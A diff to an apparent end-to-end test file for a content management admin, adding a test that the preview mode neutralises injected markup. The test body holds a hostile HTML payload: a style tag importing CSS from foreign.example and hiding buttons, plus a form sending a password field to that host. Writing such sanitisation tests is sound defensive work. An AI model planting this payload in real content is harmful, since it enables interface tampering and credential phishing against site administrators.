@@ -116,3 +116,19 @@ test('Who is only saved as the person who answers does not become it, and the on
   expect(await shown(people.dara)).toMatchObject({ name: 'Dara Chan' });
   expect(await shown(talk)).toMatchObject({ interviewee: people.dara });
 });
+
+test('A text that brings its own styles and forms changes nothing of the admin that previews it', async () => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  const hostile =
+    '<style>@import url(https://foreign.example/a.css); button { display: none !important }</style>' +
+    '<form action="https://foreign.example/"><input name="password"></form>\n\nStill **read**.';
+  await editor.write('article', article, 'en', { body: hostile });
+  await open('article', article);
+  const publish = page.getByRole('button', { name: 'Publish', exact: true });
+  await page.getByRole('button', { name: 'Preview mode' }).first().click();
+  await page.locator('strong', { hasText: 'read' }).waitFor();
+  expect(await publish.isVisible()).toBe(true);
+  expect(await page.locator('input[name=password]').count()).toBe(0);
+  expect(asked.filter((url) => url.includes('foreign.example'))).toEqual([]);
+});
